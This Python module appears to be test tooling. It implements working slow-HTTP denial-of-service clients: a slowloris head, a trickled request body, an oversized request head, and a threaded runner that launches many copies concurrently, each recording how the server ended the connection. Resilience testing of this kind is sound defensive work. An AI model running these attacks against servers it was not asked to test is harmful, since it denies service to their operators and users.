"""Raw-socket clients that misbehave at the HTTP layer: slowloris heads, trickled bodies and
oversized heads, each reporting how the server ended the connection and when."""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from dataclasses import dataclass
from urllib.parse import urlsplit


@dataclass(frozen=True)
class Outcome:
    """How one hostile connection ended."""

    status: int | None  # the status line's code, None when closed without a response
    seconds: float  # from connecting until the server closed the connection
    bytes_sent: int

    @property
    def closed_cleanly(self) -> bool:
        """Refused with a 4xx or closed, never a 5xx."""
        return self.status is None or 400 <= self.status < 500


def _address(base: str) -> tuple[str, int]:
    parts = urlsplit(base)
    return parts.hostname or "127.0.0.1", parts.port or 80


def _drain(sock: socket.socket, started: float, sent: int, deadline_s: float) -> Outcome:
    """Read until the server closes; parse the status line of whatever it answered."""
    sock.settimeout(max(deadline_s - (time.monotonic() - started), 0.1))
    data = b""
    try:
        while chunk := sock.recv(65536):
            data += chunk
    except (TimeoutError, ConnectionResetError):
        pass
    status = int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/1.") else None
    return Outcome(status, time.monotonic() - started, sent)


def _trickle(sock: socket.socket, payload: bytes, interval_s: float, deadline_s: float,
             started: float) -> int:  # fmt: skip
    """Send ``payload`` a byte at a time until the server hangs up; the bytes it took."""
    sent = 0
    for byte in payload:
        if time.monotonic() - started > deadline_s:
            break
        try:
            sock.sendall(bytes([byte]))
        except OSError:
            break  # the server closed the connection: what we measure
        sent += 1
        time.sleep(interval_s)  # the attack itself: a byte, then a pause
    return sent


def slow_head(base: str, *, interval_s: float = 0.2, deadline_s: float = 30.0) -> Outcome:
    """Slowloris: a request head sent a byte every ``interval_s``, never finished."""
    started = time.monotonic()
    with socket.create_connection(_address(base), timeout=deadline_s) as sock:
        head = b"GET /live HTTP/1.1\r\nHost: x\r\n" + b"X-Pad: " + b"a" * 10_000
        sent = _trickle(sock, head, interval_s, deadline_s, started)
        return _drain(sock, started, sent, deadline_s)


def slow_body(base: str, path: str, *, length: int = 100_000, interval_s: float = 0.2,
              deadline_s: float = 30.0) -> Outcome:  # fmt: skip
    """A complete head announcing ``length`` bytes of body, then the body a byte at a time."""
    started = time.monotonic()
    with socket.create_connection(_address(base), timeout=deadline_s) as sock:
        sock.sendall(b"POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                     b"Content-Length: %d\r\n\r\n" % (path.encode(), length))  # fmt: skip
        sent = _trickle(sock, b"{" + b" " * (length - 1), interval_s, deadline_s, started)
        return _drain(sock, started, sent, deadline_s)


def raw_request(base: str, head: bytes, *, deadline_s: float = 30.0) -> Outcome:
    """Send ``head`` (a whole request head) at once and read the answer until close."""
    started = time.monotonic()
    with socket.create_connection(_address(base), timeout=deadline_s) as sock:
        # Closed while we were still sending: the status may still be readable.
        with contextlib.suppress(OSError):
            sock.sendall(head)
        return _drain(sock, started, len(head), deadline_s)


def in_threads(count: int, attack: object, *args: object, **kwargs: object) -> list[Outcome]:
    """Run ``count`` copies of ``attack`` concurrently; their outcomes."""
    outcomes: list[Outcome] = []
    lock = threading.Lock()

    def one() -> None:
        outcome = attack(*args, **kwargs)  # type: ignore[operator]
        with lock:
            outcomes.append(outcome)

    threads = [threading.Thread(target=one, daemon=True) for _ in range(count)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return outcomes
